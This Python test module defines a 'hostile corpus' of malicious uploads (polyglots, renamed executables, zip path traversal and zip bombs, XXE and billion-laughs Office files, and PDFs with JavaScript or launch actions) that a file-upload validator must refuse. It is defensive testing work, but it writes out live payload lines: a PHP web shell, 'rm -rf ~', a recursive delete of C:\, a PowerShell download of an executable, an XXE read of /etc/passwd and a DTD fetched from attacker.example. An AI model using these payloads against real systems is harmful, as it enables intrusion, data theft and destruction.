"""The hostile corpus: files that must be refused, each with the reason it is bad.

Every file is built in code from the builders in ``corpus`` (nothing downloaded, nothing
binary committed) and only when its test runs. ``reason`` groups the cases for the count in
docs/reliability.md; ``code`` is the refusal the person gets. The names people give files are
in ``hostile_names``; the files that must be accepted are in ``good``.
"""

import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial

from karnameh.files.services import DEFAULT_MAX_BYTES, EVIDENCE_KINDS

from . import corpus as c

MB = 1024 * 1024


@dataclass(frozen=True)
class Bad:
    reason: str
    label: str
    name: str | None
    make: Callable[[], bytes]
    code: str
    allowed: frozenset[str] = EVIDENCE_KINDS


def _bad(reason: str, code: str, cases: dict[str, tuple[str, Callable[[], bytes]]]) -> list[Bad]:
    return [Bad(reason, label, name, make, code) for label, (name, make) in cases.items()]


def _over_limit(data: bytes) -> bytes:
    """``data`` padded to one byte over the upload limit."""
    return data + b"\x00" * (DEFAULT_MAX_BYTES + 1 - len(data))


_SCRIPT = b"<script>alert(document.domain)</script>"
_PHP = b'<?php system($_GET["c"]); ?>'
_JAR = {"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\nMain-Class: Evil\n", "Evil.class": b""}
_PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 46 + b"\x80\x00\x00\x00"
_PE += b"\x00" * 64 + b"PE\x00\x00\x4c\x01"
_SVG = b'<svg xmlns="http://www.w3.org/2000/svg"'
_XXE = (
    b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b"<w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body></w:document>"
)
_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (n, b"&lol%d;" % (n - 1) * 10 if n > 1 else b"&lol;" * 10)
        for n in range(1, 10)
    )
    + b']><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">&lol9;'
)
_LAUGHS += b"</workbook>"


def _two_entries() -> bytes:
    return c.zip_of({"a.txt": b"a" * 100, "b.txt": b"b" * 100})


POLYGLOTS = _bad(
    "polyglot",
    "polyglot",
    {
        "PDF + ZIP appended": ("گزارش.pdf", lambda: c.pdf() + c.zip_of(_JAR)),
        # zipfile lists its directory, then refuses the version: still a ZIP hidden inside.
        "PDF + ZIP needing version 9.9 appended": (
            "گزارش.pdf",
            lambda: (
                c.pdf()
                + c.patched_zip(c.zip_of({"a.txt": b"abc"}), central_offset=6, value=b"\x63\x00")
            ),
        ),
        "PDF + HTML in its first kilobyte": (
            "report.pdf",
            lambda: b"%PDF-1.4\n<html><body>" + _SCRIPT + b"</body></html>\n" + c.pdf()[9:],
        ),
        "PDF + script after %%EOF": ("report.pdf", lambda: c.pdf() + _SCRIPT),
        "PNG + ZIP appended": ("نمودار.png", lambda: c.png() + c.zip_of({"a.txt": b"x"})),
        "PNG + script in a text chunk": (
            "chart.png",
            lambda: c.png(chunks=(c.png_text(b"Comment", _SCRIPT),)),
        ),
        "PNG + HTML appended": ("chart.png", lambda: c.png() + b"<html>" + _SCRIPT),
        "GIF + PHP in a comment": ("avatar.gif", lambda: c.gif(comment=_PHP)),
        "GIF + JavaScript after the trailer": ("avatar.gif", lambda: c.gif() + b"*/=alert(1);"),
        "GIFAR (GIF + Java archive)": ("avatar.gif", lambda: c.gif() + c.zip_of(_JAR)),
        "JPEG + script in a comment segment": (
            "photo.jpg",
            lambda: c.jpeg(segments=(c.jpeg_segment(0xFE, _SCRIPT),)),
        ),
        "JPEG + PHP in EXIF": (
            "photo.jpg",
            lambda: c.jpeg(segments=(c.jpeg_segment(0xE1, b"Exif\x00\x00" + _PHP),)),
        ),
        "JPEG + ZIP appended": ("photo.jpg", lambda: c.jpeg() + c.zip_of(_JAR)),
        "WebP + HTML chunk": (
            "image.webp",
            lambda: c.webp(chunks=(c.riff_chunk(b"XMP ", b"<html>" + _SCRIPT),)),
        ),
        "WebP + data after its end": ("image.webp", lambda: c.webp() + b"\x00MZ" * 10),
        "ZIP + PDF appended": ("بسته.zip", lambda: c.zip_of({"a.txt": b"x"}) + c.pdf()),
        "ZIP + data before its first entry": (
            "بسته.zip",
            lambda: b"PK\x03\x04<html>" + _SCRIPT + c.zip_of({"a.txt": b"x"}),
        ),
    },
)

PROGRAMS = [
    *_bad(
        "renamed program",
        "dangerous",
        {
            "Windows program (PE) as .pdf": ("نامه.pdf", lambda: _PE),
            "Windows library (DLL) as .jpg": ("photo.jpg", lambda: _PE + b"\x00" * 200),
            "Linux program (ELF) as .docx": ("report.docx", lambda: b"\x7fELF\x02\x01\x01" * 20),
            "macOS program (Mach-O) as .pdf": ("report.pdf", lambda: b"\xcf\xfa\xed\xfe" * 20),
            "macOS universal program as .png": ("chart.png", lambda: b"\xca\xfe\xba\xbe" * 20),
            "shell script as .pdf": ("run.pdf", lambda: b"#!/bin/sh\nrm -rf ~\n"),
            "Windows shortcut (.lnk) as .pdf": (
                "invoice.pdf",
                lambda: b"L\x00\x00\x00\x01\x14\x02\x00" + b"\x00" * 68,
            ),
            "installer (.msi) as .doc": ("setup.doc", lambda: c.ole("\u4840\u3f3f\u4577")),
            "double extension with a program inside": ("report.pdf.exe", lambda: _PE),
        },
    ),
    *_bad(
        "renamed program",
        "text",
        {
            "batch file as .pdf": ("نامه.pdf", lambda: b"@echo off\r\ndel /q /s C:\\*\r\n"),
            "PowerShell script as .docx": (
                "report.docx",
                lambda: b"Invoke-WebRequest http://x/e.exe -OutFile $env:TEMP\\e.exe\n",
            ),
        },
    ),
    *_bad(
        "renamed program",
        "zip_program",
        {
            "Java program (.jar) as .pdf": ("report.pdf", lambda: c.zip_of(_JAR)),
            "Android app (.apk) as .docx": (
                "report.docx",
                lambda: c.zip_of({"AndroidManifest.xml": b"\x03\x00", "classes.dex": b"dex\n035"}),
            ),
        },
    ),
]

ARCHIVE_CONTENT = [
    *_bad(
        "program in an archive",
        "zip_program",
        {
            "ZIP holding setup.exe": ("بسته.zip", lambda: c.zip_of({"setup.exe": _PE})),
            "ZIP holding a batch file": ("بسته.zip", lambda: c.zip_of({"run.bat": b"@echo off"})),
            "ZIP holding a JScript file": ("بسته.zip", lambda: c.zip_of({"invoice.js": b"x"})),
            "ZIP holding a program named .jpg": ("بسته.zip", lambda: c.zip_of({"a.jpg": _PE})),
            "ZIP holding a script named README": (
                "بسته.zip",
                lambda: c.zip_of({"README": b"#!/bin/sh\nrm -rf ~\n"}),
            ),
        },
    ),
    *_bad(
        "path in an archive",
        "zip_path",
        {
            f"ZIP entry {entry!r}": ("بسته.zip", partial(c.zip_of, {entry: b"x"}))
            for entry in (
                "../evil.txt",
                "docs/../../evil.txt",
                "..\\..\\evil.txt",
                "/etc/cron.d/evil",
                "C:/Windows/evil.txt",
            )
        },
    ),
    *_bad(
        "path in an archive",
        "zip_name",
        {
            "ZIP entry with a right-to-left override": (
                "بسته.zip",
                lambda: c.zip_of({"invoice\u202efdp.txt": b"x"}),
            ),
            "ZIP entry with a line break": ("بسته.zip", lambda: c.zip_of({"a\nb.txt": b"x"})),
        },
    ),
]

MARKUP = _bad(
    "markup",
    "dangerous",
    {
        "HTML named .pdf": ("report.pdf", lambda: b"\n\n<!DOCTYPE html><html>" + _SCRIPT),
        "HTML after some text": ("report.pdf", lambda: b"Report 1403\n" + _SCRIPT),
        "XHTML with a script named .docx": (
            "page.docx",
            lambda: (
                b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">'
                + _SCRIPT
                + b"</html>"
            ),
        ),
        "SVG with a script named .png": ("logo.png", lambda: _SVG + b">" + _SCRIPT + b"</svg>"),
        "SVG with an onload handler named .jpg": (
            "logo.jpg",
            lambda: _SVG + b' onload="alert(1)"/>',
        ),
        "SVG with foreignObject named .gif": (
            "chart.gif",
            lambda: (
                _SVG
                + b'><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" '
                + b'src="javascript:alert(1)"/></foreignObject></svg>'
            ),
        ),
        "SVG after an XML comment": (
            "logo.png",
            lambda: b"<!-- Inkscape -->\n" + _SVG + b' onload="alert(1)"/>',
        ),
        "HTML in UTF-16": ("report.pdf", lambda: ("<html>" + _SCRIPT.decode()).encode("utf-16")),
        "HTML application (.hta)": (
            "report.pdf",
            lambda: (
                b'<HTA:APPLICATION ID="x"><script language="VBScript">'
                b'CreateObject("WScript.Shell").Run "calc"</script>'
            ),
        ),
    },
)

XML_ENTITIES = _bad(
    "XML entities in Office files",
    "office_dtd",
    {
        "DOCX with an external entity (XXE)": ("نامه.docx", lambda: c.docx(body=_XXE)),
        "XLSX with a billion laughs": (
            "جدول.xlsx",
            lambda: c.ooxml("xl/workbook.xml", c.EXCEL_MAIN, _LAUGHS),
        ),
        "DOCX with a DTD in [Content_Types].xml": (
            "نامه.docx",
            lambda: c.docx(
                extra={
                    "[Content_Types].xml": b'<?xml version="1.0"?><!DOCTYPE Types SYSTEM '
                    b'"http://attacker.example/t.dtd"><Types/>'
                }
            ),
        ),
        "PPTX with an entity in its relationships": (
            "ارائه.pptx",
            lambda: c.pptx(extra={"_rels/.rels": _XXE.replace(b"w:document", b"Relationships")}),
        ),
        "ODT with an external entity": (
            "متن.odt",
            lambda: c.odf("application/vnd.oasis.opendocument.text", extra={"content.xml": _XXE}),
        ),
    },
)

_JS = b"<</S/JavaScript/JS(app.alert(1))>>"
PDF_ACTIVE = _bad(
    "PDF active content",
    "pdf_active",
    {
        "PDF running JavaScript on opening": (
            "گزارش.pdf",
            lambda: c.pdf(catalog=b"/OpenAction 4 0 R", extra=(_JS,)),
        ),
        "PDF with JavaScript on a field event": (
            "form.pdf",
            lambda: c.pdf(extra=(b"<</Type/Annot/Subtype/Widget/AA<</K " + _JS + b">>>>",)),
        ),
        "PDF launching a program": (
            "report.pdf",
            lambda: c.pdf(catalog=b"/OpenAction 4 0 R", extra=(b"<</S/Launch/F(cmd.exe)>>",)),
        ),
        "PDF with an embedded file": (
            "report.pdf",
            lambda: c.pdf(
                catalog=b"/Names<</EmbeddedFiles<</Names[(a.exe) 4 0 R]>>>>",
                extra=(
                    b"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>",
                    c.stream(b"/Type/EmbeddedFile", _PE),
                ),
            ),
        ),
        "PDF with rich media (Flash)": (
            "report.pdf",
            lambda: c.pdf(extra=(b"<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>",)),
        ),
        "PDF with an XFA form": (
            "form.pdf",
            lambda: c.pdf(
                catalog=b"/AcroForm<</Fields[]/XFA 4 0 R>>", extra=(c.stream(b"", b"x"),)
            ),
        ),
        "PDF with a javascript: link": (
            "report.pdf",
            lambda: c.pdf(extra=(b"<</Type/Annot/Subtype/Link/A<</S/URI/URI(javascript:x())>>>>",)),
        ),
        "PDF with JavaScript spelled in #xx escapes": (
            "report.pdf",
            lambda: c.pdf(
                catalog=b"/OpenAction 4 0 R", extra=(b"<</S/J#61vaScript/J#53(app.alert(1))>>",)
            ),
        ),
        "PDF with JavaScript packed in an object stream": (
            "report.pdf",
            lambda: c.pdf(catalog=b"/OpenAction 10 0 R", extra=(c.object_stream(_JS),)),
        ),
    },
)

LIMITS = [
    *_bad(
        "oversized",
        "too_large",
        {
            "PDF one byte over the limit": ("بزرگ.pdf", lambda: _over_limit(c.pdf())),
            "JPEG one byte over the limit": ("بزرگ.jpg", lambda: _over_limit(c.jpeg())),
            "ZIP one byte over the limit": ("بزرگ.zip", lambda: _over_limit(c.zip_of({}))),
        },
    ),
    *_bad(
        "oversized",
        "image_too_big",
        {
            "PNG of 100,000 × 100,000 pixels": (
                "flood.png",
                lambda: c.png(width=100_000, height=100_000),
            ),
            "GIF of 65,535 × 65,535 pixels": (
                "flood.gif",
                lambda: c.gif(width=65535, height=65535),
            ),
            "JPEG of 65,500 × 65,500 pixels": (
                "flood.jpg",
                lambda: c.jpeg(width=65500, height=65500),
            ),
            "WebP of 16,384 × 16,384 pixels": ("flood.webp", lambda: c.webp(canvas=(16384, 16384))),
        },
    ),
    *_bad(
        "zip bomb",
        "zip_bomb",
        {
            "ZIP of 20 MB of zeros (ratio 1,000)": ("بسته.zip", lambda: c.zip_bomb(20 * MB)),
            "ZIP bomb inside a ZIP": (
                "بسته.zip",
                lambda: c.zip_of({"inner.zip": c.zip_bomb(20 * MB)}),
            ),
            "entries sharing one local header": (
                "بسته.zip",
                lambda: c.patched_zip(_two_entries(), central_offset=42, value=bytes(4), entry=1),
            ),
            "an entry whose data runs over the next": (
                "بسته.zip",
                lambda: c.patched_zip(_two_entries(), central_offset=20, value=b"\xff\x00\x00\x00"),
            ),
        },
    ),
    Bad(
        "zip bomb",
        "archives nested five deep",
        "بسته.zip",
        lambda: c.nested_zip(5, c.pdf()),
        "zip_nested",
    ),
    Bad(
        "zip bomb",
        "ZIP that says it opens to 210 MB",
        "بسته.zip",
        lambda: c.patched_zip(
            c.zip_of({"data.bin": c.noise(3 * MB)}),
            central_offset=24,
            value=(210 * MB).to_bytes(4, "little"),
        ),
        "zip_too_big",
    ),
    Bad(
        "zip bomb",
        "PDF object stream opening to 65 MB",
        "report.pdf",
        lambda: c.pdf(
            extra=(c.stream(b"/Type/ObjStm/Filter/FlateDecode", zlib.compress(bytes(65 * MB))),)
        ),
        "pdf_too_big",
    ),
    *_bad(
        "too many entries",
        "zip_entries",
        {
            "ZIP of 1,001 files": (
                "بسته.zip",
                lambda: c.zip_of({f"{n}.txt": b"" for n in range(1001)}),
            ),
            "DOCX of 1,003 parts": (
                "نامه.docx",
                lambda: c.docx(extra={f"word/media/{n}.xml": b"" for n in range(1000)}),
            ),
            "600 files and a ZIP of 600 more": (
                "بسته.zip",
                lambda: c.zip_of(
                    {
                        **{f"{n}.txt": b"" for n in range(600)},
                        "more.zip": c.zip_of({f"{n}.txt": b"" for n in range(600)}),
                    }
                ),
            ),
        },
    ),
]
